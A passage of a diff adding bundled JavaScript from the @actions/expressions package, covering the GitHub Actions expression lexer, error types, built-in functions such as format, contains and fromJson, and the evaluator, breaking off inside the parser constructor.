+    TokenType[TokenType["EQUAL_EQUAL"] = 9] = "EQUAL_EQUAL";
+    TokenType[TokenType["GREATER"] = 10] = "GREATER";
+    TokenType[TokenType["GREATER_EQUAL"] = 11] = "GREATER_EQUAL";
+    TokenType[TokenType["LESS"] = 12] = "LESS";
+    TokenType[TokenType["LESS_EQUAL"] = 13] = "LESS_EQUAL";
+    TokenType[TokenType["AND"] = 14] = "AND";
+    TokenType[TokenType["OR"] = 15] = "OR";
+    TokenType[TokenType["STAR"] = 16] = "STAR";
+    TokenType[TokenType["NUMBER"] = 17] = "NUMBER";
+    TokenType[TokenType["STRING"] = 18] = "STRING";
+    TokenType[TokenType["IDENTIFIER"] = 19] = "IDENTIFIER";
+    TokenType[TokenType["TRUE"] = 20] = "TRUE";
+    TokenType[TokenType["FALSE"] = 21] = "FALSE";
+    TokenType[TokenType["NULL"] = 22] = "NULL";
+    TokenType[TokenType["EOF"] = 23] = "EOF";
+})(lexer_TokenType || (lexer_TokenType = {}));
+function tokenString(tok) {
+    switch (tok.type) {
+        case lexer_TokenType.EOF:
+            return "EOF";
+        case lexer_TokenType.NUMBER:
+            return tok.lexeme;
+        case lexer_TokenType.STRING:
+            // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+            return tok.value.toString();
+        default:
+            return tok.lexeme;
+    }
+}
+class lexer_Lexer {
+    constructor(input) {
+        this.input = input;
+        this.start = 0;
+        this.offset = 0;
+        this.line = 0;
+        this.lastLineOffset = 0;
+        this.tokens = [];
+    }
+    lex() {
+        if (this.input.length > MAX_EXPRESSION_LENGTH) {
+            throw new Error("ErrorExceededMaxLength");
+        }
+        while (!this.atEnd()) {
+            this.start = this.offset;
+            const c = this.next();
+            switch (c) {
+                case "(":
+                    this.addToken(lexer_TokenType.LEFT_PAREN);
+                    break;
+                case ")":
+                    this.addToken(lexer_TokenType.RIGHT_PAREN);
+                    break;
+                case "[":
+                    this.addToken(lexer_TokenType.LEFT_BRACKET);
+                    break;
+                case "]":
+                    this.addToken(lexer_TokenType.RIGHT_BRACKET);
+                    break;
+                case ",":
+                    this.addToken(lexer_TokenType.COMMA);
+                    break;
+                case ".":
+                    if (this.previous() != lexer_TokenType.IDENTIFIER &&
+                        this.previous() != lexer_TokenType.RIGHT_BRACKET &&
+                        this.previous() != lexer_TokenType.RIGHT_PAREN &&
+                        this.previous() != lexer_TokenType.STAR) {
+                        this.consumeNumber();
+                    }
+                    else {
+                        this.addToken(lexer_TokenType.DOT);
+                    }
+                    break;
+                case "-":
+                case "+":
+                    this.consumeNumber();
+                    break;
+                case "!":
+                    this.addToken(this.match("=") ? lexer_TokenType.BANG_EQUAL : lexer_TokenType.BANG);
+                    break;
+                case "=":
+                    if (!this.match("=")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.EQUAL_EQUAL);
+                    break;
+                case "<":
+                    this.addToken(this.match("=") ? lexer_TokenType.LESS_EQUAL : lexer_TokenType.LESS);
+                    break;
+                case ">":
+                    this.addToken(this.match("=") ? lexer_TokenType.GREATER_EQUAL : lexer_TokenType.GREATER);
+                    break;
+                case "&":
+                    if (!this.match("&")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.AND);
+                    break;
+                case "|":
+                    if (!this.match("|")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.OR);
+                    break;
+                case "*":
+                    this.addToken(lexer_TokenType.STAR);
+                    break;
+                // Ignore whitespace.
+                case " ":
+                case "\r":
+                case "\t":
+                    break;
+                case "\n":
+                    ++this.line;
+                    this.lastLineOffset = this.offset;
+                    break;
+                case "'":
+                    this.consumeString();
+                    break;
+                default:
+                    switch (true) {
+                        case isDigit(c):
+                            this.consumeNumber();
+                            break;
+                        default:
+                            this.consumeIdentifier();
+                            break;
+                    }
+            }
+        }
+        this.tokens.push({
+            type: lexer_TokenType.EOF,
+            lexeme: "",
+            range: this.range()
+        });
+        return {
+            tokens: this.tokens
+        };
+    }
+    pos() {
+        return {
+            line: this.line,
+            column: this.start - this.lastLineOffset
+        };
+    }
+    endPos() {
+        return {
+            line: this.line,
+            column: this.offset - this.lastLineOffset
+        };
+    }
+    range() {
+        return {
+            start: this.pos(),
+            end: this.endPos()
+        };
+    }
+    atEnd() {
+        return this.offset >= this.input.length;
+    }
+    peek() {
+        if (this.atEnd()) {
+            return "\0";
+        }
+        return this.input[this.offset];
+    }
+    peekNext() {
+        if (this.offset + 1 >= this.input.length) {
+            return "\0";
+        }
+        return this.input[this.offset + 1];
+    }
+    previous() {
+        const l = this.tokens.length;
+        if (l == 0) {
+            return lexer_TokenType.EOF;
+        }
+        return this.tokens[l - 1].type;
+    }
+    next() {
+        return this.input[this.offset++];
+    }
+    match(expected) {
+        if (this.atEnd()) {
+            return false;
+        }
+        if (this.input[this.offset] !== expected) {
+            return false;
+        }
+        this.offset++;
+        return true;
+    }
+    addToken(type, value) {
+        this.tokens.push({
+            type,
+            lexeme: this.input.substring(this.start, this.offset),
+            range: this.range(),
+            value
+        });
+    }
+    consumeNumber() {
+        while (!this.atEnd() && (!isBoundary(this.peek()) || this.peek() == ".")) {
+            this.next();
+        }
+        const lexeme = this.input.substring(this.start, this.offset);
+        const value = new StringData(lexeme).number();
+        if (isNaN(value)) {
+            throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        this.addToken(lexer_TokenType.NUMBER, value);
+    }
+    consumeString() {
+        while ((this.peek() !== "'" || this.peekNext() === "'") && !this.atEnd()) {
+            if (this.peek() === "\n")
+                this.line++;
+            if (this.peek() === "'" && this.peekNext() === "'") {
+                // Escaped "'", consume
+                this.next();
+            }
+            this.next();
+        }
+        if (this.atEnd()) {
+            // Unterminated string
+            throw new Error(`Unexpected symbol: '${this.input.substring(this.start)}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        // Closing '
+        this.next();
+        // Trim the surrounding quotes.
+        let value = this.input.substring(this.start + 1, this.offset - 1);
+        value = value.replace("''", "'");
+        this.addToken(lexer_TokenType.STRING, value);
+    }
+    consumeIdentifier() {
+        while (!this.atEnd() && !isBoundary(this.peek())) {
+            this.next();
+        }
+        let tokenType = lexer_TokenType.IDENTIFIER;
+        let tokenValue = undefined;
+        const lexeme = this.input.substring(this.start, this.offset);
+        if (this.previous() != lexer_TokenType.DOT) {
+            switch (lexeme) {
+                case "true":
+                    tokenType = lexer_TokenType.TRUE;
+                    break;
+                case "false":
+                    tokenType = lexer_TokenType.FALSE;
+                    break;
+                case "null":
+                    tokenType = lexer_TokenType.NULL;
+                    break;
+                case "NaN":
+                    tokenType = lexer_TokenType.NUMBER;
+                    tokenValue = NaN;
+                    break;
+                case "Infinity":
+                    tokenType = lexer_TokenType.NUMBER;
+                    tokenValue = Infinity;
+                    break;
+            }
+        }
+        if (!isLegalIdentifier(lexeme)) {
+            throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        this.addToken(tokenType, tokenValue);
+    }
+}
+function isDigit(c) {
+    return c >= "0" && c <= "9";
+}
+function isBoundary(c) {
+    switch (c) {
+        case "(":
+        case "[":
+        case ")":
+        case "]":
+        case ",":
+        case ".":
+        case "!":
+        case ">":
+        case "<":
+        case "=":
+        case "&":
+        case "|":
+            return true;
+    }
+    return /\s/.test(c);
+}
+function isLegalIdentifier(str) {
+    if (str == "") {
+        return false;
+    }
+    const first = str[0];
+    if ((first >= "a" && first <= "z") || (first >= "A" && first <= "Z") || first == "_") {
+        for (const c of str.substring(1).split("")) {
+            if ((c >= "a" && c <= "z") || (c >= "A" && c <= "Z") || (c >= "0" && c <= "9") || c == "_" || c == "-") {
+                // OK
+            }
+            else {
+                return false;
+            }
+        }
+        return true;
+    }
+    return false;
+}
+//# sourceMappingURL=lexer.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/errors.js
+
+const MAX_PARSER_DEPTH = 50;
+const MAX_EXPRESSION_LENGTH = 21000;
+var ErrorType;
+(function (ErrorType) {
+    ErrorType[ErrorType["ErrorUnexpectedSymbol"] = 0] = "ErrorUnexpectedSymbol";
+    ErrorType[ErrorType["ErrorUnrecognizedNamedValue"] = 1] = "ErrorUnrecognizedNamedValue";
+    ErrorType[ErrorType["ErrorUnexpectedEndOfExpression"] = 2] = "ErrorUnexpectedEndOfExpression";
+    ErrorType[ErrorType["ErrorExceededMaxDepth"] = 3] = "ErrorExceededMaxDepth";
+    ErrorType[ErrorType["ErrorExceededMaxLength"] = 4] = "ErrorExceededMaxLength";
+    ErrorType[ErrorType["ErrorTooFewParameters"] = 5] = "ErrorTooFewParameters";
+    ErrorType[ErrorType["ErrorTooManyParameters"] = 6] = "ErrorTooManyParameters";
+    ErrorType[ErrorType["ErrorEvenParameters"] = 7] = "ErrorEvenParameters";
+    ErrorType[ErrorType["ErrorUnrecognizedContext"] = 8] = "ErrorUnrecognizedContext";
+    ErrorType[ErrorType["ErrorUnrecognizedFunction"] = 9] = "ErrorUnrecognizedFunction";
+})(ErrorType || (ErrorType = {}));
+class ExpressionError extends Error {
+    constructor(typ, tok) {
+        super(`${errorDescription(typ)}: '${tokenString(tok)}'`);
+        this.typ = typ;
+        this.tok = tok;
+        this.pos = this.tok.range.start;
+    }
+}
+function errorDescription(typ) {
+    switch (typ) {
+        case ErrorType.ErrorUnexpectedEndOfExpression:
+            return "Unexpected end of expression";
+        case ErrorType.ErrorUnexpectedSymbol:
+            return "Unexpected symbol";
+        case ErrorType.ErrorUnrecognizedNamedValue:
+            return "Unrecognized named-value";
+        case ErrorType.ErrorExceededMaxDepth:
+            return `Exceeded max expression depth ${MAX_PARSER_DEPTH}`;
+        case ErrorType.ErrorExceededMaxLength:
+            return `Exceeded max expression length ${MAX_EXPRESSION_LENGTH}`;
+        case ErrorType.ErrorTooFewParameters:
+            return "Too few parameters supplied";
+        case ErrorType.ErrorTooManyParameters:
+            return "Too many parameters supplied";
+        case ErrorType.ErrorEvenParameters:
+            return "Even number of parameters supplied, requires an odd number of parameters";
+        case ErrorType.ErrorUnrecognizedContext:
+            return "Unrecognized named-value";
+        case ErrorType.ErrorUnrecognizedFunction:
+            return "Unrecognized function";
+        default: // Should never reach here.
+            return "Unknown error";
+    }
+}
+class ExpressionEvaluationError extends Error {
+}
+//# sourceMappingURL=errors.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/case.js
+
+const caseFunc = {
+    name: "case",
+    description: "`case( pred1, val1, pred2, val2, ..., default )`\n\nEvaluates predicates in order and returns the value corresponding to the first predicate that evaluates to `true`. If no predicate matches, it returns the last argument as the default value.",
+    minArgs: 3,
+    maxArgs: Number.MAX_SAFE_INTEGER,
+    call: (...args) => {
+        // Evaluate predicate-result pairs
+        for (let i = 0; i < args.length - 1; i += 2) {
+            const predicate = args[i];
+            // Predicate must be a boolean
+            if (predicate.kind !== expressiondata_Kind.Boolean) {
+                throw new Error("case predicate must evaluate to a boolean value");
+            }
+            // If predicate is true, return the corresponding result
+            if (predicate.value) {
+                return args[i + 1];
+            }
+        }
+        // No predicate matched, return default (last argument)
+        return args[args.length - 1];
+    }
+};
+//# sourceMappingURL=case.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/result.js
+
+function result_falsy(d) {
+    switch (d.kind) {
+        case data.Kind.Null:
+            return true;
+        case data.Kind.Boolean:
+            return !d.value;
+        case data.Kind.Number: {
+            const dv = d.value;
+            return dv === 0 || isNaN(dv);
+        }
+        case data.Kind.String:
+            return d.value.length === 0;
+    }
+    return false;
+}
+function result_truthy(d) {
+    return !result_falsy(d);
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except objects are not coerced to primitives.
+function coerceTypes(li, ri) {
+    let lv = li;
+    let rv = ri;
+    // Do nothing, same kind
+    if (li.kind === ri.kind) {
+        return [lv, rv];
+    }
+    switch (li.kind) {
+        // Number, String
+        case expressiondata_Kind.Number:
+            if (ri.kind === expressiondata_Kind.String) {
+                rv = new NumberData(ri.number());
+                return [lv, rv];
+            }
+            break;
+        // String, Number
+        case expressiondata_Kind.String:
+            if (ri.kind === expressiondata_Kind.Number) {
+                lv = new NumberData(li.number());
+                return [lv, rv];
+            }
+            break;
+        // Boolean|Null, Any
+        case expressiondata_Kind.Null:
+        case expressiondata_Kind.Boolean:
+            lv = new NumberData(li.number());
+            return coerceTypes(lv, rv);
+    }
+    // Any, Boolean|Null
+    switch (ri.kind) {
+        case expressiondata_Kind.Null:
+        case expressiondata_Kind.Boolean:
+            rv = new NumberData(ri.number());
+            return coerceTypes(lv, rv);
+    }
+    return [lv, rv];
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_equals(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Null, Null
+        case expressiondata_Kind.Null:
+            return true;
+        // Number, Number
+        case expressiondata_Kind.Number: {
+            const ld = lv.value;
+            const rd = rv.value;
+            if (isNaN(ld) || isNaN(rd)) {
+                return false;
+            }
+            return ld == rd;
+        }
+        // String, String
+        case expressiondata_Kind.String: {
+            const ls = lv.value;
+            const rs = rv.value;
+            return toUpperSpecial(ls) === toUpperSpecial(rs);
+        }
+        // Boolean, Boolean
+        case expressiondata_Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return lb == rb;
+        }
+        // Object, Object
+        case expressiondata_Kind.Dictionary:
+        case expressiondata_Kind.Array:
+            // Check reference equality
+            return lv === rv;
+    }
+    return false;
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_greaterThan(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Number, Number
+        case data.Kind.Number: {
+            const lf = lv.value;
+            const rf = rv.value;
+            if (isNaN(lf) || isNaN(rf)) {
+                return false;
+            }
+            return lf > rf;
+        }
+        // String, String
+        case data.Kind.String: {
+            let ls = lv.value;
+            let rs = rv.value;
+            ls = toUpperSpecial(ls);
+            rs = toUpperSpecial(rs);
+            return ls > rs;
+        }
+        // Boolean, Boolean
+        case data.Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return lb && !rb;
+        }
+    }
+    return false;
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_lessThan(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Number, Number
+        case data.Kind.Number: {
+            const lf = lv.value;
+            const rf = rv.value;
+            if (isNaN(lf) || isNaN(rf)) {
+                return false;
+            }
+            return lf < rf;
+        }
+        // String, String
+        case data.Kind.String: {
+            let ls = lv.value;
+            let rs = rv.value;
+            ls = toUpperSpecial(ls);
+            rs = toUpperSpecial(rs);
+            return ls < rs;
+        }
+        // Boolean, Boolean
+        case data.Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return !lb && rb;
+        }
+    }
+    return false;
+}
+// Do not toUpper the small-dotless-ı
+function toUpperSpecial(s) {
+    const sb = [];
+    let i = 0;
+    const len = s.length;
+    let found = s.indexOf("ı");
+    while (i < len) {
+        if (i < found) {
+            sb.push(s.substring(i, found).toUpperCase()); // Append upper segment
+            i = found;
+        }
+        else if (i == found) {
+            sb.push(s.substring(i, i + 1));
+            i += 1;
+            found = s.indexOf("ı", i);
+        }
+        else {
+            sb.push(s.substring(i).toUpperCase()); // Append upper remaining
+            break;
+        }
+    }
+    return sb.join("");
+}
+//# sourceMappingURL=result.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/contains.js
+
+
+const contains = {
+    name: "contains",
+    description: "`contains( search, item )`\n\nReturns `true` if `search` contains `item`. If `search` is an array, this function returns `true` if the `item` is an element in the array. If `search` is a string, this function returns `true` if the `item` is a substring of `search`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        const right = args[1];
+        if (left.primitive) {
+            const ls = left.coerceString();
+            if (right.primitive) {
+                const rs = right.coerceString();
+                return new BooleanData(ls.toLowerCase().includes(rs.toLowerCase()));
+            }
+        }
+        else if (left.kind === expressiondata_Kind.Array) {
+            const la = left;
+            if (la.values().length === 0) {
+                return new BooleanData(false);
+            }
+            for (const v of la.values()) {
+                if (result_equals(right, v)) {
+                    return new BooleanData(true);
+                }
+            }
+        }
+        return new BooleanData(false);
+    }
+};
+//# sourceMappingURL=contains.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/endswith.js
+
+
+const endswith = {
+    name: "endsWith",
+    description: "`endsWith( searchString, searchValue )`\n\nReturns `true` if `searchString` ends with `searchValue`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        if (!left.primitive) {
+            return new BooleanData(false);
+        }
+        const right = args[1];
+        if (!right.primitive) {
+            return new BooleanData(false);
+        }
+        const ls = toUpperSpecial(left.coerceString());
+        const rs = toUpperSpecial(right.coerceString());
+        return new BooleanData(ls.endsWith(rs));
+    }
+};
+//# sourceMappingURL=endswith.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/format.js
+
+const format = {
+    name: "format",
+    description: "`format( string, replaceValue0, replaceValue1, ..., replaceValueN)`\n\nReplaces values in the `string`, with the variable `replaceValueN`. Variables in the `string` are specified using the `{N}` syntax, where `N` is an integer. You must specify at least one `replaceValue` and `string`. There is no maximum for the number of variables (`replaceValueN`) you can use. Escape curly braces using double braces.",
+    minArgs: 1,
+    maxArgs: 255 /*MAX_ARGUMENTS*/,
+    call: (...args) => {
+        const fs = args[0].coerceString();
+        const result = [];
+        let index = 0;
+        while (index < fs.length) {
+            const lbrace = fs.indexOf("{", index);
+            const rbrace = fs.indexOf("}", index);
+            // Left brace
+            if (lbrace >= 0 && (rbrace < 0 || rbrace > lbrace)) {
+                // Escaped left brace
+                if (safeCharAt(fs, lbrace + 1) === "{") {
+                    result.push(fs.substr(index, lbrace - index + 1));
+                    index = lbrace + 2;
+                    continue;
+                }
+                // Left brace, number, optional format specifiers, right brace
+                if (rbrace > lbrace + 1) {
+                    const argIndex = readArgIndex(fs, lbrace + 1);
+                    if (argIndex.success) {
+                        // Check parameter count
+                        if (1 + argIndex.result > args.length - 1) {
+                            throw new Error(`The following format string references more arguments than were supplied: ${fs}`);
+                        }
+                        // Append the portion before the left brace
+                        if (lbrace > index) {
+                            result.push(fs.substr(index, lbrace - index));
+                        }
+                        // Append the arg
+                        result.push(`${args[1 + argIndex.result].coerceString()}`);
+                        index = rbrace + 1;
+                        continue;
+                    }
+                }
+                throw new Error(`The following format string is invalid: ${fs}`);
+            }
+            // Right brace
+            else if (rbrace >= 0) {
+                // Escaped right brace
+                if (safeCharAt(fs, rbrace + 1) === "}") {
+                    result.push(fs.substr(index, rbrace - index + 1));
+                    index = rbrace + 2;
+                }
+                else {
+                    throw new Error(`The following format string is invalid: ${fs}`);
+                }
+            }
+            // Last segment
+            else {
+                result.push(fs.substr(index));
+                break;
+            }
+        }
+        return new StringData(result.join(""));
+    }
+};
+function safeCharAt(string, index) {
+    if (string.length > index) {
+        return string[index];
+    }
+    return "\0";
+}
+function readArgIndex(string, startIndex) {
+    // Count the number of digits
+    let length = 0;
+    for (;;) {
+        const nextChar = safeCharAt(string, startIndex + length);
+        if (nextChar >= "0" && nextChar <= "9") {
+            length++;
+        }
+        else {
+            break;
+        }
+    }
+    // Validate at least one digit
+    if (length < 1) {
+        return {
+            success: false
+        };
+    }
+    // Parse the number
+    const endIndex = startIndex + length - 1;
+    const result = parseInt(string.substr(startIndex, length));
+    return {
+        success: !isNaN(result),
+        result: result,
+        endIndex: endIndex
+    };
+}
+//# sourceMappingURL=format.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/fromjson.js
+
+
+const fromjson = {
+    name: "fromJson",
+    description: "`fromJSON(value)`\n\nReturns a JSON object or JSON data type for `value`. You can use this function to provide a JSON object as an evaluated expression or to convert environment variables from a string.",
+    minArgs: 1,
+    maxArgs: 1,
+    call: (...args) => {
+        const input = args[0];
+        const is = input.coerceString();
+        if (is.trim() === "") {
+            throw new Error("empty input");
+        }
+        try {
+            return JSON.parse(is, reviver);
+        }
+        catch (e) {
+            throw new ExpressionEvaluationError("Error parsing JSON when evaluating fromJson", { cause: e });
+        }
+    }
+};
+//# sourceMappingURL=fromjson.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/join.js
+
+const join = {
+    name: "join",
+    description: "`join( array, optionalSeparator )`\n\nThe value for `array` can be an array or a string. All values in `array` are concatenated into a string. If you provide `optionalSeparator`, it is inserted between the concatenated values. Otherwise, the default separator `,` is used. Casts values to a string.",
+    minArgs: 1,
+    maxArgs: 2,
+    call: (...args) => {
+        // Primitive
+        if (args[0].primitive) {
+            return new StringData(args[0].coerceString());
+        }
+        // Array
+        if (args[0].kind === expressiondata_Kind.Array) {
+            // Separator
+            let separator = ",";
+            if (args.length > 1 && args[1].primitive) {
+                separator = args[1].coerceString();
+            }
+            // Convert items to strings
+            return new StringData(args[0]
+                .values()
+                .map(item => item.coerceString())
+                .join(separator));
+        }
+        return new StringData("");
+    }
+};
+//# sourceMappingURL=join.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/startswith.js
+
+
+const startswith = {
+    name: "startsWith",
+    description: "`startsWith( searchString, searchValue )`\n\nReturns `true` when `searchString` starts with `searchValue`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        if (!left.primitive) {
+            return new BooleanData(false);
+        }
+        const right = args[1];
+        if (!right.primitive) {
+            return new BooleanData(false);
+        }
+        const ls = toUpperSpecial(left.coerceString());
+        const rs = toUpperSpecial(right.coerceString());
+        return new BooleanData(ls.startsWith(rs));
+    }
+};
+//# sourceMappingURL=startswith.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/tojson.js
+
+
+const tojson = {
+    name: "toJson",
+    description: "`toJSON(value)`\n\nReturns a pretty-print JSON representation of `value`. You can use this function to debug the information provided in contexts.",
+    minArgs: 1,
+    maxArgs: 1,
+    call: (...args) => {
+        return new StringData(JSON.stringify(args[0], replacer, "  "));
+    }
+};
+//# sourceMappingURL=tojson.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs.js
+
+
+
+
+
+
+
+
+
+const funcs_wellKnownFunctions = {
+    case: caseFunc,
+    contains: contains,
+    endswith: endswith,
+    format: format,
+    fromjson: fromjson,
+    join: join,
+    startswith: startswith,
+    tojson: tojson
+};
+// validateFunction returns the function definition for the given function name.
+// If the function does not exist or an incorrect number of arguments is provided,
+// an error is returned.
+function validateFunction(context, identifier, argCount) {
+    // Expression function names are case-insensitive.
+    const name = identifier.lexeme.toLowerCase();
+    let f;
+    f = funcs_wellKnownFunctions[name];
+    if (!f) {
+        f = context.extensionFunctions.get(name);
+        if (!f) {
+            if (!context.allowUnknownKeywords) {
+                throw new ExpressionError(ErrorType.ErrorUnrecognizedFunction, identifier);
+            }
+            // Skip argument validation for unknown functions
+            return;
+        }
+    }
+    if (argCount < f.minArgs) {
+        throw new ExpressionError(ErrorType.ErrorTooFewParameters, identifier);
+    }
+    if (argCount > f.maxArgs) {
+        throw new ExpressionError(ErrorType.ErrorTooManyParameters, identifier);
+    }
+    // case function requires an odd number of arguments
+    if (name === "case" && argCount % 2 === 0) {
+        throw new ExpressionError(ErrorType.ErrorEvenParameters, identifier);
+    }
+}
+//# sourceMappingURL=funcs.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/evaluator.js
+
+
+
+
+
+
+
+class evaluator_Evaluator {
+    /**
+     * Creates a new evaluator
+     * @param n Parsed expression to evaluate
+     * @param context Context data to use
+     * @param functions Optional map of function implementations. If given, these will be preferred over the built-in functions.
+     */
+    constructor(n, context, functions) {
+        this.n = n;
+        this.context = context;
+        this.functions = functions;
+    }
+    evaluate() {
+        return this.eval(this.n);
+    }
+    eval(n) {
+        return n.accept(this);
+    }
+    visitLiteral(literal) {
+        return literal.literal;
+    }
+    visitUnary(unary) {
+        const r = this.eval(unary.expr);
+        if (unary.operator.type === TokenType.BANG) {
+            return new data.BooleanData(falsy(r));
+        }
+        throw new Error(`unknown unary operator: ${unary.operator.lexeme}`);
+    }
+    visitBinary(binary) {
+        const left = this.eval(binary.left);
+        const right = this.eval(binary.right);
+        switch (binary.operator.type) {
+            case TokenType.EQUAL_EQUAL:
+                return new data.BooleanData(equals(left, right));
+            case TokenType.BANG_EQUAL:
+                return new data.BooleanData(!equals(left, right));
+            case TokenType.GREATER:
+                return new data.BooleanData(greaterThan(left, right));
+            case TokenType.GREATER_EQUAL:
+                return new data.BooleanData(equals(left, right) || greaterThan(left, right));
+            case TokenType.LESS:
+                return new data.BooleanData(lessThan(left, right));
+            case TokenType.LESS_EQUAL:
+                return new data.BooleanData(equals(left, right) || lessThan(left, right));
+        }
+        throw new Error(`unknown binary operator: ${binary.operator.lexeme}`);
+    }
+    visitLogical(logical) {
+        let result;
+        for (const arg of logical.args) {
+            result = this.eval(arg);
+            // Break?
+            if ((logical.operator.type === TokenType.AND && falsy(result)) ||
+                (logical.operator.type === TokenType.OR && truthy(result))) {
+                break;
+            }
+        }
+        // result is always assigned before we return here
+        // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+        return result;
+    }
+    visitGrouping(grouping) {
+        return this.eval(grouping.group);
+    }
+    visitContextAccess(contextAccess) {
+        // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+        const r = this.context.get(contextAccess.name.lexeme);
+        return r;
+    }
+    visitIndexAccess(ia) {
+        let idx;
+        if (ia.index instanceof Star) {
+            idx = new idxHelper(true, undefined);
+        }
+        else {
+            let idxResult;
+            try {
+                idxResult = this.eval(ia.index);
+            }
+            catch (e) {
+                throw new Error(`could not evaluate index for index access: ${e.message}`, { cause: e });
+            }
+            idx = new idxHelper(false, idxResult);
+        }
+        const objResult = this.eval(ia.expr);
+        let result;
+        switch (objResult.kind) {
+            case data.Kind.Array: {
+                const tobjResult = objResult;
+                if (tobjResult instanceof FilteredArray) {
+                    result = filteredArrayAccess(tobjResult, idx);
+                }
+                else {
+                    result = arrayAccess(tobjResult, idx);
+                }
+                break;
+            }
+            case data.Kind.Dictionary: {
+                const tobjResult = objResult;
+                result = objectAccess(tobjResult, idx);
+                break;
+            }
+            default:
+                if (idx.star) {
+                    result = new FilteredArray();
+                }
+                else {
+                    result = new data.Null();
+                }
+        }
+        return result;
+    }
+    visitFunctionCall(functionCall) {
+        // Evaluate arguments
+        const args = functionCall.args.map(arg => this.eval(arg));
+        // Get function definitions
+        const functionName = functionCall.functionName.lexeme.toLowerCase();
+        const f = this.functions?.get(functionName) || wellKnownFunctions[functionName];
+        return f.call(...args);
+    }
+}
+function filteredArrayAccess(fa, idx) {
+    const result = new FilteredArray();
+    for (const item of fa.values()) {
+        // Check the type of the nested item
+        switch (item.kind) {
+            case data.Kind.Dictionary: {
+                const ti = item;
+                if (idx.star) {
+                    for (const v of ti.values()) {
+                        result.add(v);
+                    }
+                }
+                else if (idx.str !== undefined) {
+                    const v = ti.get(idx.str);
+                    if (v !== undefined) {
+                        result.add(v);
+                    }
+                }
+                break;
+            }
+            case data.Kind.Array: {
+                const ti = item;
+                if (idx.star) {
+                    for (const v of ti.values()) {
+                        result.add(v);
+                    }
+                }
+                else if (idx.int !== undefined && idx.int < ti.values().length) {
+                    result.add(ti.get(idx.int));
+                }
+                break;
+            }
+        }
+    }
+    return result;
+}
+function arrayAccess(a, idx) {
+    if (idx.star) {
+        const fa = new FilteredArray();
+        for (const item of a.values()) {
+            fa.add(item);
+        }
+        return fa;
+    }
+    if (idx.int !== undefined && idx.int < a.values().length) {
+        return a.get(idx.int);
+    }
+    return new data.Null();
+}
+function objectAccess(obj, idx) {
+    if (idx.star) {
+        const fa = new FilteredArray(...obj.values());
+        return fa;
+    }
+    if (idx.str !== undefined) {
+        const r = obj.get(idx.str);
+        if (r !== undefined) {
+            return r;
+        }
+    }
+    return new data.Null();
+}
+//# sourceMappingURL=evaluator.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/parser.js
+
+
+
+
+
+class parser_Parser {
+    /**
+     * Constructs a new parser for the given tokens
+     *
+     * @param tokens Tokens to build a parse tree from
+     * @param extensionContexts Available context names
+     * @param extensionFunctions Available functions (beyond the built-in ones)
+     */
+    constructor(tokens, extensionContexts, extensionFunctions) {
+        this.tokens = tokens;
+        this.offset = 0;
+        this.depth = 0;
+        this.extContexts = new Map();
+        this.extFuncs = new Map();
+        for (const contextName of extensionContexts) {
+            this.extContexts.set(contextName.toLowerCase(), true);
+        }
+        for (const { name, func } of extensionFunctions.map(x => ({
+            name: x.name,
